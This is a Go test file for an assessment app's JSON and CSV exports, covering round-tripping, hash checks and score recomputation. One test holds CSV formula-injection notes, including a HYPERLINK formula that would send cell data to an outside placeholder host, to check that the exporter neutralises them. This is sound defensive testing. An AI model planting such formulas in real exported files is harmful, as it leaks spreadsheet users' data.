package app_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"reflect"
	"slices"
	"strings"
	"testing"

	"whetstone/internal/app"
	"whetstone/internal/measure"
	"whetstone/internal/model"
	"whetstone/internal/report"
)

// candid is an assessment with notes: its result, and its export.
func candid(t *testing.T, notes map[string]string) (*model.Result, *report.ExportedHistory) {
	t.Helper()
	w := newWorld(t)
	id := w.start("first-team", model.FullForm)
	w.answer(id, varied.raised(levels{"bridge": {model.Absent, model.Blank, 2}, "ownership": {model.Absent}}))
	for item, note := range notes {
		kept := must(w.Answers(t.Context(), w.manager, id))(t).Get(item)
		w.save(id, app.AnswerInput{Item: item, Level: kept.Level.Typed(), Seen: app.Seen(kept), Note: note})
	}
	w.finish(id)
	return w.result(id), must(w.ExportAssessment(t.Context(), w.manager, id))(t)
}

func TestJSONExportIsReadBackWhole(t *testing.T) {
	note := "“quoted” & <b>bold</b>\nsecond line"
	result, export := candid(t, map[string]string{hardToUndo: note})
	written, err := json.Marshal(export)
	if err != nil {
		t.Fatal(err)
	}
	var whole report.ExportedHistory
	if err := json.Unmarshal(written, &whole); err != nil {
		t.Fatal(err)
	}
	if again, err := json.Marshal(whole); err != nil || !bytes.Equal(again, written) {
		t.Errorf("it is not read back as it was written (%v)", err)
	}
	if whole.Format != report.HistoryFormat || whole.Whole || len(whole.Assessments) != 1 {
		t.Fatalf("format %q, whole %v, %d assessments", whole.Format, whole.Whole, len(whole.Assessments))
	}
	a, read := result.Assessment, whole.Assessments[0]
	if read.ID != a.ID || read.Questionnaire != "first-team" || read.Scope != "first-team" ||
		read.PeriodStart != "2025-12-03" || read.PeriodEnd != "2026-03-03" || !read.FinishedAt.Equal(a.FinishedAt) ||
		read.Noise != a.Noise || read.Constants != a.Constants || !reflect.DeepEqual(read.Scale, a.Scale) {
		t.Errorf("the head is %+v", read)
	}
	states := map[report.AnswerState]int{}
	for _, section := range read.Competencies {
		for _, answer := range section.Answers {
			states[answer.State]++
			if (answer.Level != nil) != (answer.State == "answered") {
				t.Errorf("%s is %s with level %v", answer.Item.ID, answer.State, answer.Level)
			}
			if answer.Item.ID == hardToUndo && (answer.Note != note || answer.Seconds != 30) {
				t.Errorf("the note is %q after %v s", answer.Note, answer.Seconds)
			}
		}
	}
	if want := map[report.AnswerState]int{"answered": 33, "absent": 4, "blank": 1}; !reflect.DeepEqual(states, want) {
		t.Errorf("answers by state: %v, want %v", states, want)
	}
}

// Anyone who has an export can check every hash in it, in any language: an item's keys sorted, without white space,
// through SHA-256.
func TestJSONExportProvesItsWords(t *testing.T) {
	_, export := candid(t, nil)
	written, err := json.Marshal(export)
	if err != nil {
		t.Fatal(err)
	}
	var read struct {
		Assessments []struct {
			Competencies []struct {
				Answers []struct {
					Item map[string]any `json:"item"`
					Hash string         `json:"item_hash"`
				} `json:"answers"`
			} `json:"competencies"`
		} `json:"assessments"`
	}
	if err := json.Unmarshal(written, &read); err != nil {
		t.Fatal(err)
	}
	checked := 0
	for _, section := range read.Assessments[0].Competencies {
		for _, answer := range section.Answers {
			var canonical bytes.Buffer
			encoder := json.NewEncoder(&canonical) // sorts the keys of maps
			encoder.SetEscapeHTML(false)
			if err := encoder.Encode(answer.Item); err != nil {
				t.Fatal(err)
			}
			sum := sha256.Sum256(bytes.TrimSpace(canonical.Bytes()))
			if got := hex.EncodeToString(sum[:]); got != answer.Hash {
				t.Errorf("%v hashes to %s, the export says %s", answer.Item["id"], got, answer.Hash)
			}
			checked++
		}
	}
	if checked != 38 {
		t.Errorf("%d items checked", checked)
	}
}

// The export alone is enough to recompute what the pages say.
func TestJSONExportCanBeRecomputed(t *testing.T) {
	result, history := candid(t, nil)
	export := history.Assessments[0]
	var all []measure.Cluster
	asked := 0
	for i, section := range export.Competencies {
		cluster := measure.Cluster{Competency: section.Competency}
		for _, answer := range section.Answers {
			if answer.Level != nil {
				cluster.Levels = append(cluster.Levels, *answer.Level)
			}
		}
		asked += len(section.Answers)
		all = append(all, cluster)
		score := export.Constants.Score([]measure.Cluster{cluster}, len(section.Answers), export.Constants.MinimumAnsweredCompetency, export.Noise)
		if score != result.Competencies[i].Score || section.Standing != score.Standing(section.Target) {
			t.Errorf("%s: %+v, the page has %+v", section.Competency, score, result.Competencies[i].Score)
		}
		if (section.Score != nil) != score.Known {
			t.Errorf("%s: a score of too few answers is exported", section.Competency)
		}
	}
	whole := export.Constants.Score(all, asked, export.Constants.MinimumAnsweredGroup, export.Noise)
	if len(export.Groups) != 1+4+7+2 || export.Groups[0].Kind != "whole" || export.Groups[0].Score.Value != whole.Value ||
		export.Groups[0].Score.Lower != whole.Lower || export.Groups[0].Score.Answered != 33 {
		t.Errorf("groups: %+v, want the whole as %+v", export.Groups, whole)
	}
}

func TestCSVExportIsReadBackByRow(t *testing.T) {
	result, export := candid(t, map[string]string{hardToUndo: "“a, b”; \"c\"\nsecond line"})
	var written bytes.Buffer
	if err := csv.NewWriter(&written).WriteAll(export.Rows()); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&written).ReadAll()
	if err != nil || len(rows) != 1+38 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	column := map[string]int{}
	for i, name := range rows[0] {
		column[name] = i
	}
	first := rows[1]
	for name, want := range map[string]string{
		"assessment": result.Assessment.ID, "name": "", "finished": "2026-03-03T09:30:00Z", "period_start": "2025-12-03", "period_end": "2026-03-03",
		"questionnaire": "first-team", "version": "2", "scope": "first-team", "craft": "software", "form": "full",
		"competency": "design", "item": hardToUndo, "text": result.Competencies[0].Section.Items[0].Text,
		"state": "answered", "level": "4", "note": "“a, b”; \"c\"\nsecond line",
	} {
		if got := first[column[name]]; got != want {
			t.Errorf("%s is %q, want %q", name, got, want)
		}
	}
	for _, row := range rows[1:] {
		if level := row[column["level"]]; (level == "") != (row[column["state"]] != "answered") {
			t.Errorf("%s: %s with level %q", row[column["item"]], row[column["state"]], level)
		}
	}
}

// A note that a spreadsheet would run as a formula reaches it as a text.
func TestCSVExportHoldsNoFormula(t *testing.T) {
	notes := map[string]string{
		hardToUndo:                              `=HYPERLINK("http://example.org/?"&A1;"read me")`,
		assumption:                              "+1 for the queue",
		"design.first-team.unheard-objection":   "-1, they said",
		"tradeoffs.link.choose-again":           "@everyone",
		"tradeoffs.first-team.earlier-case":     "＝1+1",
		"tradeoffs.first-team.who-would-notice": "\t\r\n=1+1", // the blanks are trimmed on saving
		"systems.link.past-the-list":            "the part = the whole",
		"systems.first-team.check-as-it-runs":   "'quoted'",
		"systems.first-team.our-stack-now":      "über alles",
		"roadmap.first-team.unknowns-first":     "3-4 weeks",
		"roadmap.link.weeks-people-have":        "",
		"debt.first-team.worked-around":         "first\n=second", // a line of a cell is no cell
		"debt.first-team.when-it-comes-first":   "＠",
	}
	harmless := map[string]bool{
		"systems.link.past-the-list": true, "systems.first-team.check-as-it-runs": true, "systems.first-team.our-stack-now": true,
		"roadmap.first-team.unknowns-first": true, "roadmap.link.weeks-people-have": true, "debt.first-team.worked-around": true,
	}
	_, export := candid(t, notes)
	rows := export.Rows()
	column := slices.Index(rows[0], "item")
	found := 0
	for _, row := range rows[1:] {
		item, written := row[column], row[len(row)-1]
		note, given := notes[item]
		if !given {
			continue
		}
		found++
		want := "'" + strings.TrimSpace(note)
		if harmless[item] {
			want = note
		}
		if written != want {
			t.Errorf("%s: %q is written as %q, want %q", item, note, written, want)
		}
	}
	if found != len(notes) {
		t.Errorf("%d of %d notes found", found, len(notes))
	}
}
